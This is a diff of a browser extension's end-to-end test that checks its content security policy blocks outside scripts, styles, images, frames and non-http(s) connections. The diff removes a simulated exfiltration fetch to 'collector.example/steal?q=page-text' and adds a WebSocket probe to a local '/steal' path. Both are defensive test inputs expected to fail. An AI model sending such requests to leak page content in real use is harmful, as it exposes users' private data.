@@ -1,8 +1,10 @@
 /**
  * The extension's content security policy (wxt.config.ts), as the browser enforces it on its
- * pages: nothing but the extension itself for scripts, styles, images, frames and fonts, and the
- * network only for model hosts, providers and this machine. Every test that uses the `panel`
- * fixture also checks that the panel and the engine host needed nothing the policy blocks.
+ * pages: nothing but the extension itself for scripts, styles, images, frames and fonts, and
+ * connections over http(s) only (providers may be any server the user names, so which ones are
+ * fetched is the engine host's policy: tests/e2e/provider-permissions.spec.ts). Every test that
+ * uses the `panel` fixture also checks that the panel and the engine host needed nothing the
+ * policy blocks.
  */
 import { startStaticServer } from '../fixtures/static-server';
 import { expect, test } from './fixtures';
@@ -34,16 +36,22 @@ test('an extension page cannot load images, frames, styles, scripts or connectio
     const inline = Object.assign(document.createElement('script'), { textContent: 'window.inline = true' });
     const style = Object.assign(document.createElement('style'), { textContent: 'body { color: red }' });
     [img, frame, link, script, inline, style].forEach(add);
-    // Not a listed model host or provider: the request never starts.
-    const cloud = await fetch('https://collector.example/steal?q=page-text').then(
-      () => 'sent',
-      (e: Error) => e.name,
-    );
+    // Not http(s): a WebSocket never starts (connections other than fetch to a server are refused).
+    const socket = await new Promise<string>((resolve) => {
+      try {
+        const ws = new WebSocket(`${origin.replace('http:', 'ws:')}/steal?q=page-text`);
+        ws.onopen = () => resolve('open');
+        ws.onerror = () => resolve('error');
+      } catch (e) {
+        resolve((e as Error).name);
+      }
+    });
     await new Promise((r) => setTimeout(r, 500));
     const w = window as Window & { loaded?: boolean; inline?: boolean };
-    return { cloud, loaded: w.loaded ?? false, inline: w.inline ?? false };
+    return { socket, loaded: w.loaded ?? false, inline: w.inline ?? false };
   }, origin);
-  expect(outcome).toEqual({ cloud: 'TypeError', loaded: false, inline: false });
+  expect(outcome).toMatchObject({ loaded: false, inline: false });
+  expect(outcome.socket).not.toBe('open');
   const blocked = await blockedIn(page);
   for (const directive of ['img-src', 'frame-src', 'style-src-elem', 'script-src-elem', 'connect-src'])
     expect(
